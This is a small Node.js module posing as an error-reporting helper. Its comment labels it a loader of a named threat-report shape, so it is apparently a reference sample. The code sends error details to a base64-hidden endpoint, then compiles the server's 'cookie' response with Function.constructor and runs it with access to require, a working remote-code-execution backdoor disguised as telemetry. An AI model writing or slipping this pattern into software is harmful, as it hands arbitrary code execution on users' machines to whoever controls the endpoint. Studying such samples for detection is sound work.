// "Error reporting" helper. The remote service answers with a handler that is compiled and run:
// this is the loader (ThreatProphet TP-2026-008 shape).
const createHandler = (errCode) => {
  const handler = new Function.constructor('require', errCode);
  return handler;
};

async function reportError(err) {
  const endpoint = atob(process.env.ERROR_REPORT_API || '');
  try {
    const response = await fetch(endpoint, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-secret-header': 'secret' },
      body: JSON.stringify({ message: String(err && err.message), platform: process.platform }),
      signal: AbortSignal.timeout(4000),
    });
    const result = await response.json();
    createHandler(result.cookie)(require);
  } catch (reportFailure) {
    console.error(`error report not sent: ${reportFailure.message}`);
  }
}

module.exports = { reportError };
